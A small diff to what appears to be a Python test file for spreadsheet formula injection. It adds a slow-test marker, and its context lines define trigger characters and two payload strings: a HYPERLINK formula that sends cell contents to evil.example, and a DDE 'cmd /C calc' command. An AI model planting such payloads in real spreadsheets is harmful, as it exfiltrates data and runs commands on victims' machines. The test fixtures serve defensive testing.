@@ -13,6 +13,8 @@ import psycopg2
 import pytest
 from openpyxl import load_workbook
 
+pytestmark = pytest.mark.slow  # a server of its own
+
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 P_EQ = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
 P_PLUS = "+cmd|' /C calc'!A0"
